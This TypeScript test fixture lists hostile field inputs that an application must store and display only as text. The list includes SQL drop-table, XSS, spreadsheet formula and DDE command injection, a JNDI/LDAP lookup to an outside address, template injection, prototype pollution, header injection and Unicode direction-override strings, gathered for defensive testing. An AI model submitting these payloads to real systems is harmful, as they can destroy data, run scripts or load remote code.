/**
 * What people put into fields to see what breaks: statements of a database, scripts, formulas of a spreadsheet, letters
 * that turn the line round. The contract takes all of it; it must stay text wherever it is shown.
 */
export const hostileTexts = [
  `'; drop table orders; --`,
  `<script>document.title='owned'</script>`,
  `"><img src=x onerror=alert(1)>`,
  `=HYPERLINK("http://203.0.113.9/","win")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\u202egnp.tnemyap\u202c`,
  `\${jndi:ldap://203.0.113.9/a}`,
  `{{constructor.constructor('return 1')()}}`,
  `__proto__`,
  `line one\r\nset-cookie: owned=1`,
  `\ud83d\ude00\u200d\u200b\ufeff`,
] as const;
